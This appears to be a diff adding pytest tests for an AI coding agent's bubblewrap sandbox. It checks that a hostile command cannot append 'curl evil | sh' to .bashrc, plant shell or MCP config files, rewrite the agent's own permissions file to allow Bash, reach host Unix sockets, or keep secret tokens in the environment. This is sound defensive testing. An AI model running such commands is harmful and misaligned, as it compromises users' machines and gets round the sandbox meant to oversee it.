@@ -1,0 +1,64 @@
+"""An approved command turned hostile, under the real bubblewrap sandbox (workspace-write): it cannot change the
+shell's start-up files a project in the home directory holds, cannot grant itself future permissions through
+agentcli's own home, and cannot reach the host's abstract Unix sockets (a session bus, an X server, an agent)."""
+
+from __future__ import annotations
+
+import socket
+import uuid
+from pathlib import Path
+
+import pytest
+
+from agentcli.sandbox.env import scrub
+from tests.sandbox.helpers import bash, context, project
+
+
+@pytest.fixture
+def root(tmp_path: Path) -> Path:
+    return project(tmp_path)
+
+
+def test_shell_start_up_files_stay_as_they_were(root: Path) -> None:
+    (root / ".bashrc").write_text("# mine\n")
+    ctx = context(root)
+    out = bash(ctx, "echo 'curl evil | sh' >> .bashrc; echo x > .zshenv; mkdir -p .cursor && echo '{}' > "
+                    ".cursor/mcp.json; ls -a")
+    assert (root / ".bashrc").read_text() == "# mine\n", out.content
+    assert not (root / ".zshenv").exists() and not (root / ".cursor").exists(), out.content
+
+
+def test_agentcli_home_cannot_be_written_or_read(root: Path) -> None:
+    ctx = context(root)
+    assert ctx.sandbox is not None
+    home = ctx.sandbox.spec.agentcli_home
+    home.mkdir(parents=True)
+    (home / "config.toml").write_text("[permissions]\nallow = []\n")
+    out = bash(ctx, f"cat {home}/config.toml; printf '[permissions]\\nallow = [\"Bash\"]\\n' > {home}/config.toml; "
+                    f"mkdir -p {home}/x && echo ok")
+    assert (home / "config.toml").read_text() == "[permissions]\nallow = []\n", out.content
+    assert not (home / "x").exists()
+    assert "allow = []" not in out.content
+
+
+def test_the_hosts_abstract_unix_sockets_are_out_of_reach(root: Path) -> None:
+    name = f"agentcli-test-{uuid.uuid4().hex}"
+    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    server.bind("\0" + name)
+    server.listen(1)
+    try:
+        ctx = context(root)
+        script = (f"import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0{name}'); print('CONNECTED')")
+        out = bash(ctx, f"python3 -c \"{script}\" 2>&1 || echo REFUSED")
+        assert "CONNECTED" not in out.content and "REFUSED" in out.content, out.content
+        server.settimeout(0)
+        with pytest.raises(BlockingIOError):
+            server.accept()
+    finally:
+        server.close()
+
+
+def test_tokens_and_passwords_by_any_name_leave_the_environment() -> None:
+    env = {"VAULT_TOKEN": "v", "CI_JOB_TOKEN": "c", "SLACK_BOT_TOKEN": "s", "DB_PASSWD": "p", "SSH_PRIVATE_KEY": "k",
+           "GIT_TERMINAL_PROMPT": "0", "PATH": "/bin", "TOKENIZERS_PARALLELISM": "false"}
+    assert scrub(env) == {"GIT_TERMINAL_PROMPT": "0", "PATH": "/bin", "TOKENIZERS_PARALLELISM": "false"}
